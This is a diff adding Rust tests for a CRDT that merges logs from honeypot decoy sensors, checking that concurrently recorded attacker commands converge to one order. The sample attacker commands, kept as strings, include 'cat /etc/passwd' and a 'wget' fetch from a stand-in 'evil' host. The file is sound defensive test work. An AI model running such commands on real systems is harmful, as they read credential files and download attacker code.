@@ -0,0 +1,64 @@
+use maya_crdt::{Action, Crdt, GSeq, HybridClock, MayaState};
+
+fn action(decoy: &str, command: &str) -> Action {
+    Action { decoy: decoy.to_string(), action: command.to_string() }
+}
+
+fn commands(seq: &GSeq<Action>) -> Vec<&str> {
+    seq.iter().map(|(_, entry)| entry.action.as_str()).collect()
+}
+
+#[test]
+fn concurrent_appends_converge_to_one_order() {
+    // Three sensors log commands in the same millisecond, unaware of
+    // each other
+    let mut seqs: Vec<GSeq<Action>> = Vec::new();
+    for (node, commands) in [
+        ("fake-web-01", ["id", "uname -a"]),
+        ("fake-db-01", ["mysql -u root", "show databases"]),
+        ("fake-mail-01", ["cat /etc/passwd", "exit"]),
+    ] {
+        let mut clock = HybridClock::new();
+        let mut seq = GSeq::new();
+        for command in commands {
+            seq.append(clock.tick_at(node, 1_000), action(node, command));
+        }
+        seqs.push(seq);
+    }
+
+    // Every replica merges the others in a different order
+    let orders = [[0, 1, 2], [1, 2, 0], [2, 0, 1], [2, 1, 0]];
+    let merged: Vec<GSeq<Action>> = orders.iter().map(|order| {
+        let mut seq = seqs[order[0]].clone();
+        seq.merge(&seqs[order[1]]);
+        seq.merge(&seqs[order[2]]);
+        seq
+    }).collect();
+
+    for seq in &merged[1..] {
+        assert_eq!(commands(seq), commands(&merged[0]));
+    }
+    // Ties on the clock fall back to the node id; each node keeps its own order
+    assert_eq!(commands(&merged[0]), [
+        "mysql -u root", "cat /etc/passwd", "id",
+        "show databases", "exit", "uname -a",
+    ]);
+}
+
+#[test]
+fn actions_written_after_a_merge_sort_after_what_was_seen() {
+    let mut web = MayaState::new("fake-web-01");
+    let mut db = MayaState::new("fake-db-01");
+    db.record_action("10.0.0.5", "db-01", "mysql -u root");
+    // Pretend db's clock runs ahead of web's
+    db.hlc.wall += 60_000;
+    db.record_action("10.0.0.5", "db-01", "show databases");
+
+    web.merge(&db);
+    web.record_action("10.0.0.5", "web-01", "wget http://evil/x");
+    db.merge(&web);
+
+    let web_actions = commands(&web.attackers["10.0.0.5"].actions);
+    assert_eq!(web_actions, ["mysql -u root", "show databases", "wget http://evil/x"]);
+    assert_eq!(commands(&db.attackers["10.0.0.5"].actions), web_actions);
+}